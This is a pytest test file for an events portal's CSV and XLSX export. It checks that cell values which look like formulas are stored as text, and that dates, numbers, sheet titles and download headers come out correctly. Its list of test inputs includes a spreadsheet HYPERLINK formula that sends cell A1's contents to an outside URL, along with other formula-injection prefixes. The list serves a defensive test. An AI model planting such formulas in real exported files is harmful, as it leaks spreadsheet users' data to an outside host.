"""Tables leave the portal as CSV and XLSX, and no spreadsheet executes what somebody typed."""

import csv
import datetime as dt
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from events.spreadsheets import Column, Table, csv_lines, csv_response, write_xlsx, xlsx_response

EVIL = [
    '=HYPERLINK("https://example.org/?x="&A1;"Conferma")',
    "+39 011 1234567",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


def a_table(*rows: list[object], columns: int = 1, title: str = "Prova") -> Table:
    return Table(title, [Column(f"Colonna {number}") for number in range(1, columns + 1)], rows)


def as_csv(table: Table) -> list[list[str]]:
    text = "".join(csv_lines(table))
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def as_sheets(*tables: Table) -> list[Worksheet]:
    file = BytesIO()
    write_xlsx(tables, file)
    return load_workbook(file).worksheets


@pytest.mark.parametrize("text", EVIL)
def test_what_looks_like_a_formula_is_text_in_both_formats(text: str):
    table = a_table([text])
    (cell,) = as_csv(table)[1]
    assert cell == f"'{text}"
    cell = as_sheets(table)[0]["A2"]
    assert (cell.data_type, cell.number_format) == ("s", "@")
    # XML writes line ends as \n
    assert cell.value == text.replace("\r", "\n") or cell.value.strip() == text.strip()


def test_a_field_cannot_break_out_of_its_cell():
    rows = as_csv(a_table(['"; =1+1', "a\r\n=1+1"], columns=2))
    assert rows[1] == ['"; =1+1', "a\r\n=1+1"]


def test_headings_are_text_too():
    table = Table("=1+1", [Column("=1+1")], [])
    assert as_csv(table) == [["'=1+1"]]
    assert as_sheets(table)[0]["A1"].data_type == "s"


def test_numbers_days_and_moments_stay_what_they_are():
    moment = dt.datetime(2027, 10, 28, 8, 0, tzinfo=dt.UTC)  # 10:00 in Rome
    row = [-3, 1.5, dt.date(2027, 10, 28), dt.time(9, 5), moment, None, True]
    table = a_table(row, columns=7)
    assert as_csv(table)[1] == ["-3", "1.5", "2027-10-28", "09:05", "2027-10-28 10:00", "", "1"]
    values = [cell.value for cell in as_sheets(table)[0][2]]
    assert values[:2] == [-3, 1.5]
    assert values[2] == dt.datetime(2027, 10, 28)
    assert values[3] == dt.time(9, 5)
    assert values[4] == dt.datetime(2027, 10, 28, 10, 0)
    assert values[5:] == [None, True]


def test_signs_that_xml_does_not_know_do_not_break_the_file():
    assert as_sheets(a_table(["a\x00b\x0bc\ud800"]))[0]["A2"].value == "abc"


def test_titles_of_sheets_are_made_to_fit():
    titles = [sheet.title for sheet in as_sheets(a_table(title="A/B: [x]?" + "y" * 40), *[a_table()] * 2)]
    assert titles == ["A B   x  " + "y" * 22, "Prova", "Prova (2)"]
    assert len(as_sheets()) == 1


def test_rows_are_read_while_they_are_sent():
    read = []

    def rows():
        for number in range(3):
            read.append(number)
            yield [number]

    lines = csv_lines(Table("Prova", [Column("n")], rows()))
    assert [next(lines) for _ in range(3)] == ["\ufeff", "n\r\n", "0\r\n"]
    assert read == [0]


def test_a_download_has_a_name_and_is_kept_by_no_cache():
    for response, name in (
        (csv_response(a_table(["à"]), "prenotazioni"), "prenotazioni.csv"),
        (xlsx_response([a_table(["à"])], "prenotazioni"), "prenotazioni.xlsx"),
    ):
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response["Cache-Control"] == "private, no-store"
        assert "à" in (
            b"".join(response).decode("utf-8-sig")
            if name.endswith("csv")
            else load_workbook(BytesIO(b"".join(response))).active["A2"].value
        )
